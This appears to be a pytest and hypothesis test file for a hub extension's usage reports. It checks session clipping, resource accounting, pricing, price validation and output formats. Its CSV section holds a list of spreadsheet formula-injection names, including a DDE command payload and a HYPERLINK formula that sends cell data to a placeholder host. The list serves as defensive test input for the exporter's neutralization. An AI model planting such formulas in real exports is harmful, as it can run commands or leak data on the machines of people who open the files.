"""Usage reports (pure): clipping to the window, open sessions, groupings,
prices, and the accounting properties (communities + hub-wide = total; a
window split in two adds up) checked with hypothesis."""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hubext._validation import ConfigError, KeyPath, errors_of
from hubext.prices import UnitPrices, parse_price_table
from hubext.usage.model import HUB_ACCOUNT
from hubext.usage.report import (
    FORMULA_STARTS,
    Span,
    build_report,
    format_csv,
    format_json,
    format_table,
)

T0 = datetime(2026, 3, 1, tzinfo=UTC)
H = timedelta(hours=1)
M = timedelta(minutes=1)
GIB = 2**30
LO, HI = T0, T0 + 10 * H
NOW = T0 + 20 * H


def span(start, stop=None, last_seen=None, **kw) -> Span:
    defaults = dict(user="ada", community="ocean-lab", profile="gpu")
    defaults.update(kw)
    return Span(
        started_at=start,
        last_seen_at=last_seen or stop or start,
        stopped_at=stop,
        **defaults,
    )


@pytest.mark.parametrize(
    ("session", "hours", "counted"),
    [
        pytest.param(span(T0 + H, T0 + 3 * H), 2, 1, id="inside"),
        pytest.param(span(T0 - 2 * H, T0 + H), 1, 1, id="crosses-the-start"),
        pytest.param(span(T0 + 9 * H, T0 + 12 * H), 1, 1, id="crosses-the-end"),
        pytest.param(span(T0 - H, T0 + 11 * H), 10, 1, id="spans-the-window"),
        pytest.param(span(T0 - 3 * H, T0 - H), 0, 0, id="before"),
        pytest.param(span(T0 - 3 * H, T0), 0, 0, id="ends-at-the-start"),
        pytest.param(span(HI, HI + H), 0, 0, id="starts-at-the-end"),
        pytest.param(span(T0 + H, T0 + H), 0, 1, id="failed-start-inside"),
        pytest.param(span(T0 + 8 * H), 2, 1, id="open-counts-up-to-now"),
        pytest.param(span(T0 + 8 * H + 30 * M, None, HI + H), 1.5, 1, id="open-late"),
    ],
)
def test_sessions_count_only_their_part_inside_the_window(session, hours, counted):
    report = build_report([session], start=LO, end=HI, now=NOW)
    assert report.total.server_hours == hours
    assert report.total.sessions == counted


def test_open_sessions_up_to_their_last_sighting_when_asked():
    session = span(T0 + H, None, T0 + 4 * H)
    now = build_report([session], start=LO, end=HI, now=T0 + 6 * H)
    seen = build_report(
        [session], start=LO, end=HI, now=T0 + 6 * H, open_until="last-seen"
    )
    assert (now.total.server_hours, seen.total.server_hours) == (5, 3)


@pytest.mark.parametrize(
    ("request_", "limit", "counted"),
    [
        pytest.param(1.5, 4.0, 1.5, id="request"),
        pytest.param(None, 4.0, 4.0, id="limit-without-request"),
        pytest.param(0.0, 4.0, 4.0, id="zero-request-is-none-as-in-kubespawner"),
        pytest.param(None, None, 0.0, id="neither"),
    ],
)
def test_cpu_and_memory_are_the_request_or_the_limit_without_one(
    request_, limit, counted
):
    # The rule of the limits' decision (hubext.limits.Demand), the ledger's
    # reports and budgets: Kubernetes gives a container with a limit and no
    # request its limit as request.
    session = span(
        T0,
        T0 + 2 * H,
        cpu_request=request_,
        cpu_limit=limit,
        mem_request=None if request_ is None else int(request_ * GIB),
        mem_limit=None if limit is None else int(limit * GIB),
    )
    total = build_report([session], start=LO, end=HI, now=NOW).total
    assert (total.cpu_hours, total.gib_hours) == (2 * counted, 2 * counted)


def test_resources_are_counted_by_request():
    sessions = [
        span(T0, T0 + 2 * H, cpu_request=1.5, mem_request=4 * GIB, gpus=2),
        span(T0, T0 + 3 * H, cpu_request=None, mem_request=None, gpus=0),
    ]
    total = build_report(sessions, start=LO, end=HI, now=NOW).total
    assert (total.server_hours, total.cpu_hours, total.gib_hours, total.gpu_hours) == (
        5,
        3,
        8,
        4,
    )


def test_rows_by_community_user_and_profile():
    sessions = [
        span(T0, T0 + H, user="ada", community="ocean-lab", profile="gpu"),
        span(T0, T0 + 2 * H, user="ada", community="astro-101", profile="small"),
        span(T0, T0 + 4 * H, user="root", community=HUB_ACCOUNT, profile=None),
    ]

    def hours(by):
        report = build_report(sessions, start=LO, end=HI, now=NOW, by=by)
        return {k: u.server_hours for k, u in report.rows.items()}

    assert hours("community") == {"_hub": 4, "astro-101": 2, "ocean-lab": 1}
    assert hours("user") == {"ada": 3, "root": 4}
    assert hours("profile") == {"-": 4, "gpu": 1, "small": 2}


def test_cost_uses_the_charged_communitys_prices():
    prices = {
        "ocean-lab": UnitPrices(cpu_hour=0.05, gib_hour=0.01, gpu_hour=1.2),
        HUB_ACCOUNT: UnitPrices(server_hour=0.5),
    }
    sessions = [
        span(T0, T0 + 10 * H, cpu_request=2, mem_request=4 * GIB, gpus=1),
        span(T0, T0 + 2 * H, community=HUB_ACCOUNT, user="root"),
        span(T0, T0 + 2 * H, community="astro-101", cpu_request=8),
    ]
    report = build_report(sessions, start=LO, end=HI, now=NOW, by="user", prices=prices)
    assert math.isclose(report.rows["ada"].cost, 10 * (2 * 0.05 + 4 * 0.01 + 1.2))
    assert math.isclose(report.rows["root"].cost, 1.0)
    assert report.unpriced == {"astro-101"}


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        pytest.param(
            {"ocean-lab": {"cpu_hours": 1}},
            "prices['ocean-lab'].cpu_hours: unknown key (did you mean 'cpu_hour'?)",
            id="misspelt-unit",
        ),
        pytest.param(
            {"ocean-lab": {"gpu_hour": -1}},
            "prices['ocean-lab'].gpu_hour: must be a finite number >= 0, got -1",
            id="negative",
        ),
        pytest.param(
            {"ocean-lab": {"gpu_hour": "1.2"}},
            "prices['ocean-lab'].gpu_hour: expected a number, got '1.2' (str)",
            id="string",
        ),
        pytest.param(
            {"Ocean Lab": {"gpu_hour": 1}},
            "prices: slug must match",
            id="not-a-slug",
        ),
        pytest.param(["x"], "prices: expected a mapping", id="not-a-mapping"),
    ],
)
def test_bad_prices_name_the_key(raw, message):
    with pytest.raises(ConfigError) as e:
        parse_price_table(raw, KeyPath("prices"))
    assert any(str(one).startswith(message) for one in errors_of(e.value)), str(e.value)


def test_formats_show_the_same_numbers():
    sessions = [
        span(T0, T0 + 90 * M, cpu_request=1, community="ocean-lab"),
        span(T0, T0 + 30 * M, community=HUB_ACCOUNT),
    ]
    report = build_report(sessions, start=LO, end=HI, now=NOW)
    table = format_table(report).splitlines()
    assert [
        line.split()[:3]
        for line in table
        if line.startswith(("_hub ", "ocean", "total"))
    ] == [
        ["_hub", "1", "0.50"],
        ["ocean-lab", "1", "1.50"],
        ["total", "2", "2.00"],
    ]
    assert format_csv(report).splitlines() == [
        "community,sessions,server_hours,cpu_hours,gib_hours,gpu_hours",
        "_hub,1,0.500000,0.000000,0.000000,0.000000",
        "ocean-lab,1,1.500000,1.500000,0.000000,0.000000",
        "total,2,2.000000,1.500000,0.000000,0.000000",
    ]
    data = json.loads(format_json(report))
    assert [r["community"] for r in data["rows"]] == ["_hub", "ocean-lab"]
    assert data["total"]["server_seconds"] == 7200


# -- CSV that a spreadsheet opens safely ----------------------------------------

#: names an identity provider or a profile list may hold, as issue #19 found
HOSTILE = [
    "=2+3@uni",
    "@sum(1+1)@uni",
    "+cmd|' /C calc'!A0",
    "'=1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1)',
]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("by", ["user", "profile"])
def test_csv_neutralizes_cells_that_would_start_a_formula(by):
    sessions = [
        span(T0, T0 + H, user=name, profile=name, cpu_request=1) for name in HOSTILE
    ] + [span(T0, T0 + H, user="ada", profile=None)]
    rows = csv_rows(
        format_csv(build_report(sessions, start=LO, end=HI, now=NOW, by=by))
    )
    labels = [row[0] for row in rows[1:-1]]
    expected = {"'" + name for name in HOSTILE} | {"ada" if by == "user" else "'-"}
    assert set(labels) == expected
    for row in rows:
        assert not row[0].startswith(FORMULA_STARTS)
        for cell in row[1:]:
            assert not cell.startswith(FORMULA_STARTS) or row is rows[0]


def test_csv_numbers_stay_numbers_a_spreadsheet_adds_up():
    # a negative request (a ledger written by hand) gives negative hours: a
    # number, written as one, never made text
    sessions = [
        span(T0, T0 + H, user="a", cpu_request=-1.5),
        span(T0, T0 + 2 * H, user="b", cpu_request=0.25),
    ]
    report = build_report(sessions, start=LO, end=HI, now=NOW, by="user")
    header, a, b, total = csv_rows(format_csv(report))
    cpu = header.index("cpu_hours")
    assert (a[cpu], b[cpu], total[cpu]) == ("-1.500000", "0.500000", "-1.000000")
    assert float(a[cpu]) + float(b[cpu]) == float(total[cpu])
    assert [r[header.index("sessions")] for r in (a, b, total)] == ["1", "1", "2"]


@settings(max_examples=200, deadline=None)
@given(
    names=st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5),
    by=st.sampled_from(["user", "profile"]),
)
def test_no_csv_cell_starts_a_formula_and_labels_come_back(names, by):
    sessions = [
        span(T0, T0 + H, user=name, profile=name, cpu_request=1) for name in names
    ]
    report = build_report(sessions, start=LO, end=HI, now=NOW, by=by)
    rows = csv_rows(format_csv(report))
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    # nothing lost: one leading ' off gives every label back
    labels = [row[0] for row in rows[1:-1]]
    assert [label.removeprefix("'") for label in labels] == list(report.rows)


# -- properties -------------------------------------------------------------

COMMUNITIES = ["ocean-lab", "astro-101", "bio", HUB_ACCOUNT]


@st.composite
def spans(draw):
    start = (
        T0
        + draw(st.integers(-3000, 3000)) * M
        + draw(st.integers(0, 59)) * (timedelta(seconds=1))
    )
    length = draw(st.integers(0, 2000)) * timedelta(seconds=37)
    is_open = draw(st.booleans())
    return Span(
        user=draw(st.sampled_from(["ada", "bob", "cy"])),
        community=draw(st.sampled_from(COMMUNITIES)),
        profile=draw(st.sampled_from(["gpu", "small", None])),
        started_at=start,
        last_seen_at=start + length,
        stopped_at=None if is_open else start + length,
        cpu_request=draw(st.sampled_from([None, 0.25, 1.0, 3.5])),
        mem_request=draw(st.sampled_from([None, 2**29, 3 * GIB])),
        gpus=draw(st.integers(0, 2)),
        cpu_limit=draw(st.sampled_from([None, 2.0])),
        mem_limit=draw(st.sampled_from([None, 4 * GIB])),
    )


window = st.tuples(st.integers(-2000, 2000), st.integers(1, 3000))


def _close(a: float, b: float) -> bool:
    return math.isclose(a, b, rel_tol=1e-9, abs_tol=1e-6)


@settings(max_examples=200, deadline=None)
@given(st.lists(spans(), max_size=40), window, st.sampled_from(["now", "last-seen"]))
def test_communities_plus_the_hub_account_equal_the_total(sessions, w, open_until):
    lo = T0 + w[0] * M
    hi = lo + w[1] * M
    report = build_report(
        sessions, start=lo, end=hi, now=T0 + 4000 * M, open_until=open_until
    )
    assert set(report.rows) <= set(COMMUNITIES)
    rows = report.rows.values()
    # exact for server time (microseconds), to rounding for the rest
    assert sum(u.server_us for u in rows) == report.total.server_us
    assert sum(u.sessions for u in rows) == report.total.sessions
    for unit in ("cpu_seconds", "gib_seconds", "gpu_seconds"):
        assert _close(sum(getattr(u, unit) for u in rows), getattr(report.total, unit))
    # the total does not depend on how rows are grouped
    for by in ("user", "profile"):
        other = build_report(
            sessions, start=lo, end=hi, now=T0 + 4000 * M, open_until=open_until, by=by
        )
        assert other.total.server_us == report.total.server_us
    # and equals a session-by-session brute force, to the microsecond
    expected = 0
    for s in sessions:
        end = s.stopped_at or (s.last_seen_at if open_until == "last-seen" else None)
        end = end or max(T0 + 4000 * M, s.started_at)
        inside = min(end, hi) - max(s.started_at, lo)
        expected += max(inside, timedelta(0)) // timedelta(microseconds=1)
    assert report.total.server_us == expected


@settings(max_examples=200, deadline=None)
@given(st.lists(spans(), max_size=40), window, st.integers(1, 2999))
def test_a_window_split_in_two_adds_up(sessions, w, cut):
    lo = T0 + w[0] * M
    hi = lo + w[1] * M
    mid = lo + min(cut, w[1] - 1) * M if w[1] > 1 else None
    if mid is None or not lo < mid < hi:
        return
    now = T0 + 4000 * M
    whole = build_report(sessions, start=lo, end=hi, now=now)
    first = build_report(sessions, start=lo, end=mid, now=now)
    second = build_report(sessions, start=mid, end=hi, now=now)
    assert first.total.server_us + second.total.server_us == whole.total.server_us
    for key, usage in whole.rows.items():
        parts = [r.rows[key].server_us for r in (first, second) if key in r.rows]
        assert sum(parts) == usage.server_us
        assert _close(
            sum(r.rows[key].gpu_seconds for r in (first, second) if key in r.rows),
            usage.gpu_seconds,
        )
